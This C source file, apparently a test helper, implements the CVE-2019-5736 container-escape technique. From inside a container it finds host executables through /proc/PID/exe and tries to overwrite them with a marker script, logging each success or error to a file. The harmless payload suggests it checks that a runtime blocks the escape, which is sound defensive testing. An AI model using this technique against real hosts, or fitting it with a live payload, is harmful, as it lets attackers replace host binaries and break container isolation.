/* SPDX-License-Identifier: LGPL-2.1-or-later
 *
 * exe_thief: tries to write to the executables of strangers (CVE-2019-5736). As root of a container
 * with all rights it watches /proc for processes whose executable is no file of the container, keeps
 * that open, and opens it for writing when nobody executes it any more. Or it was executed by
 * exe_loader with such a file open already.
 * Writes a line for each stranger to FILE: "NAME: overwritten", or why not.
 * usage: exe_thief FILE SECONDS       watch for so long
 *        exe_thief FILE SECONDS FD    the executable is open there
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define BOOTY_MAX 64
#define LOOT "#!/bin/sh\nexit 99 # overwritten by a container\n"

struct booty {
	int fd;
	char name[256];
	int last_errno; /* 0: not tried yet */
	bool done;
};

static struct booty booty[BOOTY_MAX];
static size_t n_booty;

/* A file of the container is found at its own name. */
static bool
is_of_container (int fd, const char *name)
{
	struct stat st, named;

	return fstat (fd, &st) < 0 ||
	       (stat (name, &named) == 0 && named.st_ino == st.st_ino && named.st_dev == st.st_dev);
}

static bool
is_known (int fd)
{
	struct stat st, known;

	for (size_t i = 0; i < n_booty; i++)
		if (fstat (fd, &st) == 0 && fstat (booty[i].fd, &known) == 0 &&
			st.st_ino == known.st_ino && st.st_dev == known.st_dev)
			return true;
	return false;
}

static void
look_at (const char *pid)
{
	char path[300];
	struct booty *b = &booty[n_booty];
	ssize_t n;

	snprintf (path, sizeof path, "/proc/%s/exe", pid);
	b->fd = open (path, O_RDONLY | O_CLOEXEC);
	if (b->fd < 0)
		return;
	snprintf (path, sizeof path, "/proc/self/fd/%d", b->fd);
	n = readlink (path, b->name, sizeof b->name - 1);
	b->name[n > 0 ? n : 0] = '\0';
	if (is_of_container (b->fd, b->name) || is_known (b->fd))
		close (b->fd);
	else
		n_booty++;
}

static void
look_around (void)
{
	DIR *stream = opendir ("/proc");
	struct dirent *entry;

	while (stream && n_booty < BOOTY_MAX && (entry = readdir (stream)))
		if (isdigit ((unsigned char) entry->d_name[0]))
			look_at (entry->d_name);
	if (stream)
		closedir (stream);
}

static void
try (struct booty *b)
{
	char path[64];
	int fd;

	snprintf (path, sizeof path, "/proc/self/fd/%d", b->fd);
	fd = open (path, O_WRONLY | O_CLOEXEC);
	b->last_errno = fd < 0 ? errno : 0;
	if (fd < 0)
		return;
	if (write (fd, LOOT, sizeof LOOT - 1) < 0)
		b->last_errno = errno;
	b->done = true;
	close (fd);
}

static void
tell (const char *path)
{
	FILE *file = fopen (path, "w");

	for (size_t i = 0; file && i < n_booty; i++)
		fprintf (file, "%s: %s\n", booty[i].name,
			booty[i].last_errno ? strerror (booty[i].last_errno) : "overwritten");
	if (file)
		fclose (file);
}

int
main (int argc, char **argv)
{
	const struct timespec nap = { .tv_nsec = 1000000 };
	time_t until;

	if (argc < 3) {
		fprintf (stderr, "usage: exe_thief FILE SECONDS [FD]\n");
		return 2;
	}
	until = time (NULL) + atoi (argv[2]);
	if (argc > 3)
		booty[n_booty++] = (struct booty){ .fd = atoi (argv[3]), .name = "own" };
	while (time (NULL) < until) {
		if (argc == 3)
			look_around ();
		for (size_t i = 0; i < n_booty; i++)
			if (!booty[i].done)
				try (&booty[i]);
		if (argc > 3)
			nanosleep (&nap, NULL);
		tell (argv[1]);
	}
	return 0;
}
